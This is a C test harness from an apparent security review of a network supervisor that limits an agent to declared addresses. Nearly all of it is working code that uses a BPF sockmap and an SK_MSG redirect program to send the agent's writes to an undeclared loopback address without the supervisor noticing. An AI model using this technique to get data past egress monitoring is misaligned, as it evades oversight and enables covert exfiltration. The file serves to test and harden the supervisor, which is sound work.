/*
 * ha11-sockmap.c (review h-attack11): a TCP socket on stdin, connected to
 * the declared destination, with no IP options and no routing header (the
 * stdio check passes it and routes it again), that a root caller put in a
 * BPF sockmap whose SK_MSG verdict redirects every send to another socket
 * of the map: the agent's write() leaves on a connection to an undeclared
 * address. No getsockopt reads this state back.
 *
 *   ha11-sockmap run SV MODE   (as root, in a network namespace of its own
 *                               holding only lo: see ha11-sockmap.sh)
 *
 * Listeners on 127.0.0.1:4471 (declared) and 127.0.0.2:9999 (undeclared).
 * MODE:
 *   plain     stdin connected to 127.0.0.1:4471 (control)
 *   redirect  the same, then: a second socket connected to 127.0.0.2:9999;
 *             a SOCKMAP with [0] = that socket, [1] = stdin; an SK_MSG
 *             program "return bpf_msg_redirect_map(msg, map, 0, 0)"
 *             attached to the map (BPF_SK_MSG_VERDICT). This process keeps
 *             the map and the second socket open while the supervisor runs.
 * Then SV --no-loopback --allow 127.0.0.1:4471 --report ... -- (this program)
 * agent, whose agent only write()s "agent-secret" to descriptor 0.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what)
{
	perror(what);
	exit(2);
}

static int bpf(int cmd, union bpf_attr *a)
{
	return (int)syscall(SYS_bpf, cmd, a, sizeof(*a));
}

static int tcp_to(uint32_t ip, int port)
{
	struct sockaddr_in d = {
	    .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(ip)};
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0 || connect(s, (struct sockaddr *)&d, sizeof(d)) != 0)
		die("connect");
	return s;
}

static int listener(uint32_t ip, int port)
{
	struct sockaddr_in a = {
	    .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(ip)};
	int one = 1, l = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(l, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(l, 8) != 0)
		die("listener");
	return l;
}

static void redirect(int stdin_sock, int other)
{
	union bpf_attr a;
	char log[4096] = "";
	int map, prog, key, val;

	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_SOCKMAP;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 2;
	map = bpf(BPF_MAP_CREATE, &a);
	if (map < 0)
		die("BPF_MAP_CREATE");
	struct bpf_insn insns[] = {
	    /* r2 = map (ld_imm64, pseudo map fd) */
	    {.code = BPF_LD | BPF_DW | BPF_IMM,
	     .dst_reg = 2,
	     .src_reg = BPF_PSEUDO_MAP_FD,
	     .imm = map},
	    {0},
	    {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 3, .imm = 0}, /* key 0 */
	    {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 4, .imm = 0}, /* egress */
	    {.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_msg_redirect_map},
	    {.code = BPF_JMP | BPF_EXIT},
	};
	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_SK_MSG;
	a.insns = (uint64_t)(unsigned long)insns;
	a.insn_cnt = sizeof(insns) / sizeof(insns[0]);
	a.license = (uint64_t)(unsigned long)"GPL";
	a.log_buf = (uint64_t)(unsigned long)log;
	a.log_size = sizeof(log);
	a.log_level = 1;
	prog = bpf(BPF_PROG_LOAD, &a);
	if (prog < 0) {
		fprintf(stderr, "%s\n", log);
		die("BPF_PROG_LOAD");
	}
	memset(&a, 0, sizeof(a));
	a.target_fd = (uint32_t)map;
	a.attach_bpf_fd = (uint32_t)prog;
	a.attach_type = BPF_SK_MSG_VERDICT;
	if (bpf(BPF_PROG_ATTACH, &a) != 0)
		die("BPF_PROG_ATTACH");
	for (key = 0; key < 2; key++) {
		val = key == 0 ? other : stdin_sock;
		memset(&a, 0, sizeof(a));
		a.map_fd = (uint32_t)map;
		a.key = (uint64_t)(unsigned long)&key;
		a.value = (uint64_t)(unsigned long)&val;
		a.flags = BPF_ANY;
		if (bpf(BPF_MAP_UPDATE_ELEM, &a) != 0)
			die("BPF_MAP_UPDATE_ELEM");
	}
	/* map and prog stay open in this (parent) process. */
}

static int drain(int l, const char *name)
{
	char buf[256];
	int total = 0, c;

	while ((c = accept(l, NULL, NULL)) >= 0) {
		ssize_t r;

		while ((r = recv(c, buf, sizeof(buf) - 1, MSG_DONTWAIT)) > 0) {
			buf[r] = '\0';
			fprintf(stderr, "  %s got: \"%s\"\n", name, buf);
			total += (int)r;
		}
		close(c);
	}
	fprintf(stderr, "  %s: %d byte(s)\n", name, total);
	return total;
}

int main(int argc, char **argv)
{
	char self[4096];
	int l_decl, l_undecl, s, other = -1, st;
	pid_t pid;

	if (argc >= 2 && strcmp(argv[1], "agent") == 0) {
		ssize_t r = write(0, "agent-secret", 12);

		fprintf(stderr, "  agent: write(0) = %zd (%s)\n", r,
			r < 0 ? strerror(errno) : "ok");
		usleep(200 * 1000);
		return 0;
	}
	if (argc != 4 || strcmp(argv[1], "run") != 0 || !realpath("/proc/self/exe", self)) {
		fprintf(stderr, "usage: ha11-sockmap run SV plain|redirect\n");
		return 2;
	}
	l_decl = listener(0x7f000001, 4471);
	l_undecl = listener(0x7f000002, 9999);
	s = tcp_to(0x7f000001, 4471);
	if (strcmp(argv[3], "redirect") == 0) {
		other = tcp_to(0x7f000002, 9999);
		redirect(s, other);
	}
	if (system("mkdir -p /tmp/ha11 && rm -f /tmp/ha11/report.json") != 0)
		return 2;
	fprintf(stderr, "mode %s\n", argv[3]);
	pid = fork();
	if (pid == 0) {
		if (dup2(s, 0) != 0)
			die("dup2");
		execl(argv[2], argv[2], "--no-loopback", "--allow", "127.0.0.1:4471", "--report",
		      "/tmp/ha11/report.json", "--", self, "agent", (char *)NULL);
		die("exec");
	}
	close(s);
	waitpid(pid, &st, 0);
	usleep(200 * 1000);
	fprintf(stderr, "  supervisor exit %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : -1);
	if (system("python3 -c 'import json; r=json.load(open(\"/tmp/ha11/report.json\")); "
		   "print(\"  verdict\", r[\"verdict\"], \"-\", r[\"reason\"])' 1>&2") != 0)
		fprintf(stderr, "  (no report)\n");
	drain(l_decl, "declared 127.0.0.1:4471");
	drain(l_undecl, "undeclared 127.0.0.2:9999");
	(void)other;
	return 0;
}
